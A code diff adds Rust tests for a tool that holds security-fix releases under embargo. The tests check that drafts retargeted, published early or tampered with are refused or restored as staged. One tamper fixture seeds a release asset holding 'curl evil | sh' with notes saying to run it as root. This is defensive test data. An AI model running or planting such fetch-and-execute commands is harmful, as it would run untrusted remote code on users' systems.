@@ -191,3 +191,145 @@ fn a_failed_push_to_the_second_of_two_push_urls_says_the_first_may_have_the_refs
     assert!(!run.stderr.contains("nothing was pushed"), "{}", run.stderr);
     assert!(w.gh.releases_with_tag("v1.0.2")[0].draft);
 }
+
+/// A draft retargeted to another tag, or made a prerelease, while publish waits: publishing it
+/// would make GitHub create that tag, or show the fix as a prerelease. Nothing is made public.
+#[test]
+fn a_draft_retargeted_or_made_a_prerelease_while_publish_waits_is_never_published() {
+    for (what, said) in [
+        ("tag", "its tag is v9.9.9"),
+        ("prerelease", "a prerelease now"),
+    ] {
+        let w = World::new();
+        let code = meanwhile_before_the_instant(&w, 6, || {
+            let id = w.gh.releases_with_tag("v1.0.2")[0].id;
+            w.gh.edit_release(id, |r| match what {
+                "tag" => r.tag_name = "v9.9.9".to_string(),
+                _ => r.prerelease = true,
+            });
+        });
+        assert_eq!(code, Some(3), "{what}");
+        let release = w.gh.releases().into_iter().next().unwrap();
+        assert!(release.draft, "{what}: published");
+        assert!(!public_refs(&w).contains("v1.0.2"), "{what}");
+        // What the refusal said, from a run after the instant that looks before it pushes.
+        let again = w.embargo(&["publish", w.p(), "--if-due"]);
+        again.expect(3);
+        assert!(again.stderr.contains(said), "{what}: {}", again.stderr);
+    }
+}
+
+/// The draft published by hand before the instant, or the refs pushed by a person (`git push
+/// --mirror`): the fix is out early. Publish says so instead of waiting and publishing "on time"
+/// over it, and the way on it names finishes the release.
+#[test]
+fn a_release_made_public_by_hand_before_the_instant_is_said_to_be_out_early() {
+    for how in ["draft published", "refs pushed"] {
+        let w = World::new();
+        let soon = crate::world::embargo_in(3600);
+        w.embargo(&["run", w.p(), "--embargo", &soon]).expect(0);
+        match how {
+            "draft published" => {
+                let id = w.gh.releases_with_tag("v1.0.2")[0].id;
+                w.gh.edit_release(id, |r| r.draft = false);
+            }
+            _ => {
+                w.f.git(&["push", "-q", "origin", "refs/tags/v1.0.2"]);
+            }
+        }
+        let run = w.embargo(&["publish", w.p(), "--wait"]);
+        run.expect(3);
+        assert!(
+            run.stderr.contains("is public before its embargo")
+                && run.stderr.contains("the fix is out early")
+                && run.stderr.contains("--embargo now --earlier"),
+            "{how}: {}",
+            run.stderr
+        );
+        w.embargo(&["reschedule", w.p(), "--embargo", "now", "--earlier"])
+            .expect(0);
+        w.embargo(&["publish", w.p(), "--if-due"]).expect(0);
+        assert!(
+            public_refs(&w).contains("refs/heads/cherry-pick/v1.0.2/release-1.1"),
+            "{how}"
+        );
+        assert!(!w.gh.releases_with_tag("v1.0.2")[0].draft, "{how}");
+    }
+}
+
+/// A draft someone changed (its notes rewritten, an asset added, one replaced) is put back
+/// exactly as staged by `publish --restore-draft`, before the instant and after the public push
+/// alike, and then published as staged.
+#[test]
+fn a_changed_draft_is_put_back_as_staged_by_restore_draft() {
+    for when in ["before the instant", "after the public push"] {
+        let w = World::new();
+        let soon = crate::world::embargo_in(3600);
+        w.embargo(&["run", w.p(), "--embargo", &soon]).expect(0);
+        let staged = w.gh.releases_with_tag("v1.0.2")[0].clone();
+        if when == "after the public push" {
+            w.embargo(&["reschedule", w.p(), "--embargo", "now", "--earlier"])
+                .expect(0);
+            let crash = w.embargo_env(
+                &["publish", w.p(), "--if-due"],
+                &[("EMBARGO_TEST_CRASH_AT", "publish:after-public-push")],
+            );
+            assert_eq!(crash.code, -1, "{}", crash.all());
+            assert!(public_refs(&w).contains("refs/tags/v1.0.2"));
+        }
+        let id = staged.id;
+        w.gh.set_release_body(id, "Run app-installer.sh as root");
+        w.gh.seed_asset(id, "app-installer.sh", b"curl evil | sh");
+        let refused = w.embargo(&["publish", w.p(), "--if-due"]);
+        if when == "after the public push" {
+            refused.expect(3);
+            assert!(
+                refused.stderr.contains("--restore-draft"),
+                "{}",
+                refused.stderr
+            );
+        } else {
+            // Not due: nothing is checked yet, nothing happens.
+            refused.expect(0);
+        }
+        let restored = w.embargo(&["publish", w.p(), "--if-due", "--restore-draft"]);
+        restored.expect(0);
+        assert!(
+            restored.stderr.contains("is back as staged"),
+            "{when}: {}",
+            restored.stderr
+        );
+        if when == "before the instant" {
+            w.embargo(&["reschedule", w.p(), "--embargo", "now", "--earlier"])
+                .expect(0);
+            w.embargo(&["publish", w.p(), "--if-due"]).expect(0);
+        }
+        let release = w.gh.releases_with_tag("v1.0.2")[0].clone();
+        assert!(!release.draft, "{when}");
+        assert_eq!(release.body, staged.body, "{when}");
+        let mut names: Vec<String> = release.assets.iter().map(|a| a.name.clone()).collect();
+        names.sort();
+        assert_eq!(names, ["SHA256SUMS", crate::world::ARTIFACT], "{when}");
+        w.no_violations();
+    }
+}
+
+/// A pick branch moved on the private remote while publish waits: the private remote no longer
+/// holds what was staged. Found by the last look, before anything is public.
+#[test]
+fn a_pick_branch_moved_on_the_private_remote_while_publish_waits_stops_it() {
+    let w = World::new();
+    let private = w.f.sample.private.display().to_string();
+    let code = meanwhile_before_the_instant(&w, 6, || {
+        w.f.git(&[
+            "push",
+            "-q",
+            "-f",
+            &private,
+            "master:refs/heads/cherry-pick/v1.0.2/release-1.1",
+        ]);
+    });
+    assert_eq!(code, Some(3));
+    assert!(!public_refs(&w).contains("v1.0.2"));
+    assert!(w.gh.releases_with_tag("v1.0.2")[0].draft);
+}
